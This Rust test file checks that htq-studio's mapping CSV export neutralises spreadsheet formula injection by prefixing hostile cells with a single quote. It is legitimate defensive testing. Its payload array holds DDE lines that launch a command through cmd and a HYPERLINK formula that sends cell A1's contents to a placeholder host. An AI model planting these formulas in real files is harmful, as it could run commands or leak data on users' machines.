//! Formula injection through the mapping spreadsheet: a standard whose statements start with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is imported and exported as the mapping CSV
//! by the command line. No cell of the CSV starts with any of those characters: each hostile
//! cell is the text with OWASP's leading single quote, which spreadsheets hide.

use htq_studio::model::synthetic::{Size, curriculum};
use htq_studio::store;
use std::fs;
use std::process::Command;

type Result<T = ()> = std::result::Result<T, Box<dyn std::error::Error>>;

const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
];

#[test]
fn no_cell_of_the_exported_mapping_starts_a_formula() -> Result {
    let dir = tempfile::tempdir()?;
    store::save(&dir.path().join("c.ron"), &curriculum(Size::TINY))?;
    let mut csv = String::from("code,kind,text\n");
    for (n, text) in HOSTILE.iter().enumerate() {
        let quoted = text.replace('"', "\"\"");
        csv.push_str(&format!("K{},knowledge,\"{quoted}\"\n", n + 1));
    }
    fs::write(dir.path().join("st6666-hostile-l4.csv"), csv)?;
    let htq = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_htq-studio"))
            .args(args)
            .current_dir(dir.path())
            .output()
    };
    let import = htq(&[
        "import-standard",
        "st6666-hostile-l4.csv",
        "--into",
        "c.ron",
    ])?;
    assert!(
        import.status.success(),
        "{}",
        String::from_utf8_lossy(&import.stderr)
    );
    let export = htq(&["export", "c.ron", "--mapping-csv", "mapping.csv"])?;
    assert!(
        export.status.success(),
        "{}",
        String::from_utf8_lossy(&export.stderr)
    );

    let text = fs::read_to_string(dir.path().join("mapping.csv"))?;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut statements = Vec::new();
    for row in reader.records() {
        let row = row?;
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell starts a formula: {cell:?}"
            );
        }
        if row.get(0) == Some("ST6666") {
            statements.push(row.get(3).unwrap_or_default().to_owned());
        }
    }
    // The importer trims the statements (so the tab and CR in front go), then the export
    // quotes what is left.
    let expected: Vec<String> = HOSTILE
        .iter()
        .map(|text| format!("'{}", text.trim()))
        .collect();
    assert_eq!(statements, expected);
    Ok(())
}
